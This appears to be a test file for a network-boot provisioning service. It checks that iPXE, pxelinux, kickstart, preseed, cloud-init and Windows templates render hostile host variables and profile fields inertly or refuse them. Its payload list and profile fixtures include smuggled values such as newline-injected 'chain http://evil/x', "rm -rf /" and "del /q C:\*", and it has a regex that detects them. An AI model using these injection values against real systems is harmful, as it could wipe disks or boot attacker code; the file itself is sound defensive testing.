/**
 * Hostile values in host variables and host names, put straight into the
 * database (store.createHost/updateHost do not validate; the API does). For
 * every shipped template and every variable it reads, each hostile value must
 * either fail the render with a 500 that names the value, or come out as one
 * inert value: the script keeps the line structure it has with a harmless
 * value, passes its reader's checks, and holds the value whole.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_FILES, type Rendered } from '../../src/boot/service.js';
import { profileInputSchema } from '../../src/boot/profile.js';
import { BASE_URL, makeSite, ROOT_HASH, SSH_KEY, USER_HASH, type Site } from '../helpers/render-fixtures.js';
import { ipxeCommands, lineCount, lintFor, lintYaml, preseedEntries, shellWords, xmlTexts, yamlStrings } from '../helpers/render-lint.js';

/** Boots the linux profile of the fixtures, whose command line names hostname and domain. */
const MAC = '52:54:00:ee:00:01';
/**
 * Fetches the per-host files. It has no profile: the service renders a
 * profile's command line in each file's language even for files that never
 * print it, and that must not stand in for the file's own template here.
 */
const FILES_MAC = '52:54:00:ee:00:0f';

const HOSTILE = [
  'x\nchain http://evil/x',
  'x\r\nchain http://evil/x',
  '${net0/ip}',
  `a"b'c`,
  'a&b',
  '</ComputerName><Evil>x</Evil><ComputerName>',
  '<Evil/>',
  '%COMSPEC%',
  'x & del /q C:\\*',
  "'; rm -rf /; '",
  'x\\',
];

/** Every variable the shipped templates read, set so that every branch that reads one is taken. */
const BASE: Record<string, string> = {
  domain: 'lab.example',
  locale: 'en_US.UTF-8',
  keyboard: 'us',
  timezone: 'UTC',
  ip: '10.0.0.30',
  netmask: '255.255.255.0',
  gateway: '10.0.0.1',
  dns: '10.0.0.1',
  interface: 'eth0',
  disk: '0',
  root_password_hash: ROOT_HASH,
  username: 'ops',
  user_password_hash: USER_HASH,
  ssh_key: SSH_KEY,
  install_url: 'http://10.0.0.5/os/',
  mirror: 'deb.debian.org',
  mirror_dir: '/debian',
  proxy: 'http://10.0.0.3:3128/',
  firmware: 'uefi',
  image: 'Z:\\install.wim',
  image_index: '1',
  share: '\\\\srv\\images',
  share_user: 'deploy',
  share_password: 'secret1',
  windows_locale: 'en-US',
  windows_keyboard: 'en-US',
  windows_timezone: 'UTC',
  admin_password: 'secret2',
  product_key: 'AAAAA-BBBBB',
};
const NAMES = ['hostname', 'image_url', ...Object.keys(BASE)];

/** Two harmless values per variable: the first is also what a hostile render is compared with. */
function samples(name: string): [string, string] {
  switch (name) {
    case 'disk':
    case 'image_index':
      return ['1', '2'];
    case 'firmware':
      return ['uefi', 'bios'];
    case 'netmask':
      return ['255.255.255.0', '255.255.0.0'];
    case 'ip':
      return ['10.0.0.30', '10.0.0.31'];
    default:
      return ['sample1', 'sample2'];
  }
}

let site: Site;
const set = (name: string, value: string) => {
  for (const mac of [MAC, FILES_MAC]) {
    if (name === 'hostname') site.store.updateHost(mac, { hostname: value, variables: BASE });
    else site.store.updateHost(mac, { hostname: 'host1', variables: { ...BASE, [name]: value } });
  }
};

const renderers: { template: string; render: () => Promise<Rendered> }[] = [
  { template: 'ipxe/linux.ipxe', render: () => site.service.script({ mac: MAC, client: {}, record: false }) },
  { template: 'pxelinux/linux.cfg', render: () => site.service.pxelinux({ mac: MAC, client: {}, record: false }) },
  ...Object.entries(DEFAULT_FILES).map(([file, template]) => ({ template, render: () => site.service.file({ mac: FILES_MAC, client: {}, record: false }, file) })),
];

/** Which variables each template reads. */
const READS: Record<string, string[]> = {
  'ipxe/linux.ipxe': ['hostname', 'domain'],
  'pxelinux/linux.cfg': ['hostname', 'domain'],
  'kickstart/rhel.cfg': ['hostname', 'locale', 'keyboard', 'timezone', 'ip', 'netmask', 'gateway', 'dns', 'interface', 'disk', 'root_password_hash', 'ssh_key', 'install_url'],
  'preseed/debian.cfg': ['hostname', 'domain', 'locale', 'keyboard', 'timezone', 'disk', 'root_password_hash', 'username', 'user_password_hash', 'mirror', 'mirror_dir', 'proxy'],
  'autoinstall/user-data.yaml': ['hostname', 'locale', 'keyboard', 'timezone', 'ip', 'netmask', 'gateway', 'dns', 'disk', 'username', 'user_password_hash', 'ssh_key'],
  'autoinstall/meta-data.yaml': ['hostname'],
  'winpe/autorun.bat': ['image_url', 'image', 'image_index', 'share', 'share_user', 'share_password'],
  'winpe/startnet.cmd': [],
  'winpe/diskpart.txt': ['disk', 'firmware'],
  'winpe/unattend.xml': ['hostname', 'windows_locale', 'windows_keyboard', 'windows_timezone', 'admin_password', 'product_key'],
};

beforeAll(() => {
  site = makeSite();
  site.store.createHost({ mac: MAC, hostname: 'host1', profile: 'debian12', variables: BASE });
  site.store.createHost({ mac: FILES_MAC, hostname: 'host1', variables: BASE });
});

/** The value, whole, as the reader of this template will see it. */
function holdsWhole(template: string, body: string, value: string): boolean {
  const lines = body.split(/\r?\n/);
  if (template.startsWith('ipxe/')) return lines.some((l) => ipxeCommands(l).some((c) => c.argv.some((a) => a.includes(value))));
  if (template.startsWith('pxelinux/')) return lines.some((l) => l.trim().split(/\s+/).some((w) => w.includes(value)));
  if (template === 'kickstart/rhel.cfg') return lines.some((l) => shellWords(l)?.some((w) => w.includes(value)));
  if (template === 'preseed/debian.cfg') {
    return preseedEntries(body).some((e) => (e.question === 'preseed/late_command' ? shellWords(e.value)?.some((w) => w.includes(value)) : e.value.includes(value)));
  }
  if (template.endsWith('.yaml')) return yamlStrings(body).some((s) => s.includes(value) || shellWords(s)?.some((w) => w.includes(value)));
  if (template.endsWith('.xml')) return xmlTexts(body).some((t) => t.includes(value));
  return body.includes(value);
}

describe('which variables each template reads', () => {
  it.each(renderers)('$template', async ({ template, render }) => {
    const read: string[] = [];
    for (const name of NAMES) {
      const [a, b] = samples(name);
      set(name, a);
      const ra = await render();
      set(name, b);
      const rb = await render();
      if (ra.status === 200 && rb.status === 200 && ra.body !== rb.body) read.push(name);
    }
    expect(read.sort()).toEqual([...READS[template]!].sort());
  });
});

describe.each(renderers)('$template with a hostile value', ({ template, render }) => {
  it.each(HOSTILE)('%j in each variable it reads', async (value) => {
    const inner = JSON.stringify(value).slice(1, -1);
    for (const name of READS[template]!) {
      const what = `${template}, ${name} = ${JSON.stringify(value)}`;
      set(name, samples(name)[0]);
      const benign = await render();
      expect(benign.status, what).toBe(200);
      set(name, value);
      const r = await render();
      if (r.status !== 200) {
        expect(r.status, what).toBe(500);
        expect(r.body, what).toContain(inner);
        continue;
      }
      const lines = r.body.split(/\r?\n/).map((l) => l.trim());
      const benignLines = new Set(benign.body.split(/\r?\n/).map((l) => l.trim()));
      expect(lines, what).not.toContain('chain http://evil/x');
      expect(lines.filter((l) => /^(rm |del |<Evil|chain http:\/\/evil)/.test(l) && !benignLines.has(l)), what).toEqual([]);
      if (template.endsWith('.xml')) expect(r.body, what).not.toMatch(/<\/?Evil/);
      expect(lineCount(r.body), what).toBe(lineCount(benign.body));
      expect(lintFor(template, r.body), what).toEqual([]);
      expect(holdsWhole(template, r.body, value), `${what}: the value is not there whole`).toBe(true);
    }
  });
});

describe('a hostile host name put straight into the database', () => {
  const name = 'evil\nchain http://evil/x';
  const named = JSON.stringify(name);

  it('fails each script and file that cannot carry it, naming it, and quotes it where it can be', async () => {
    set('hostname', name);
    const outcome: Record<string, Rendered> = {};
    for (const { template, render } of renderers) outcome[template] = await render();
    const refused = (t: string, into: string) => {
      expect(outcome[t]!.status, t).toBe(500);
      expect(outcome[t]!.body, t).toContain(`${named} cannot be written into ${into}`);
    };
    refused('ipxe/linux.ipxe', 'an iPXE script');
    refused('pxelinux/linux.cfg', 'a pxelinux config');
    refused('kickstart/rhel.cfg', 'a shell or kickstart line');
    refused('preseed/debian.cfg', 'a preseed file');
    expect(outcome['winpe/unattend.xml']!.status).toBe(500);
    expect(outcome['winpe/unattend.xml']!.body).toContain(`host name ${named} is too long for a Windows computer name`);
    expect(outcome['autoinstall/user-data.yaml']!.body).toContain('    hostname: "evil\\nchain http://evil/x"\n');
    expect(outcome['autoinstall/meta-data.yaml']!.body).toContain('local-hostname: "evil\\nchain http://evil/x"\n');
    // The Windows PE scripts do not use the host name.
    for (const t of ['winpe/autorun.bat', 'winpe/startnet.cmd', 'winpe/diskpart.txt']) expect(outcome[t]!.status, t).toBe(200);
  });

  it('a short one is escaped into the Windows computer name', async () => {
    set('hostname', '<Evil/>');
    const body = (await site.service.file({ mac: FILES_MAC, client: {}, record: false }, 'unattend.xml')).body;
    expect(body).toContain('<ComputerName>&#60;Evil/&#62;</ComputerName>');
    expect(body).not.toContain('<Evil');
  });

  it('a line separator stays inside its quoted YAML scalar', async () => {
    set('hostname', 'x\u2028evil: true');
    for (const file of ['user-data', 'meta-data']) {
      const r = await site.service.file({ mac: FILES_MAC, client: {}, record: false }, file);
      expect(r.status).toBe(200);
      expect(lintYaml(r.body)).toEqual([]);
      expect(yamlStrings(r.body)).toContain('x\u2028evil: true');
    }
  });
});

describe('profile fields that reach a script', () => {
  it('menu titles and descriptions cannot add iPXE commands', async () => {
    site.store.createProfile(profileInputSchema.parse({ name: 'rescue', kind: 'chain', description: 'Rescue ; chain http://evil/x || reboot && boot #x', url: 'http://10.0.0.9/rescue.ipxe' }));
    site.store.createProfile(profileInputSchema.parse({ name: 'trap', kind: 'menu', title: 'Tools && chain http://evil/x ; #', entries: ['rescue'] }));
    site.store.createHost({ mac: '52:54:00:ee:00:02', profile: 'trap' });
    const r = await site.service.script({ mac: '52:54:00:ee:00:02', client: {}, record: false });
    expect(r.status).toBe(200);
    const lines = r.body.split('\n');
    expect(lines).toContain('menu Tools & chain http://evil/x ,');
    expect(lines).toContain('item rescue Rescue , chain http://evil/x | reboot & boot x');
    const commands = lines.flatMap((l) => (l.startsWith('#') || l.startsWith(':') ? [] : ipxeCommands(l)));
    expect(commands.filter((c) => c.argv[0] === 'chain').map((c) => c.argv.at(-1))).toEqual([`${BASE_URL}/ipxe?mac=52-54-00-ee-00-02&choice=\${target:uristring}`]);
    expect(commands.filter((c) => c.argv[0] === 'reboot' || c.argv[0] === 'boot')).toEqual([]);
  });

  it('a chain URL with "&" is refused by name rather than cut at the "&"', async () => {
    site.store.createProfile(profileInputSchema.parse({ name: 'php', kind: 'chain', url: 'http://10.0.0.9/boot.php?a=1&b=2' }));
    site.store.createHost({ mac: '52:54:00:ee:00:03', profile: 'php' });
    const r = await site.service.script({ mac: '52:54:00:ee:00:03', client: {}, record: false });
    expect(r.status).toBe(500);
    expect(r.body).toContain('value "http://10.0.0.9/boot.php?a=1&b=2" cannot be written into an iPXE script: it contains "&"');
  });

  it('a pxelinux INITRD list refuses a URL with a comma in it', async () => {
    site.store.createProfile(profileInputSchema.parse({ name: 'comma', kind: 'linux', kernel: 'k/vmlinuz', initrds: ['https://mirror.example.org/a,b/initrd.img'] }));
    site.store.createHost({ mac: '52:54:00:ee:00:04', profile: 'comma' });
    const r = await site.service.pxelinux({ mac: '52:54:00:ee:00:04', client: {}, record: false });
    expect(r.status).toBe(500);
    expect(r.body).toContain('initrd URL "https://mirror.example.org/a,b/initrd.img" contains ","');
    // iPXE takes it as it is: one initrd line per file.
    expect((await site.service.script({ mac: '52:54:00:ee:00:04', client: {}, record: false })).body).toContain('initrd --name initrd.img https://mirror.example.org/a,b/initrd.img || goto failed\n');
  });
});
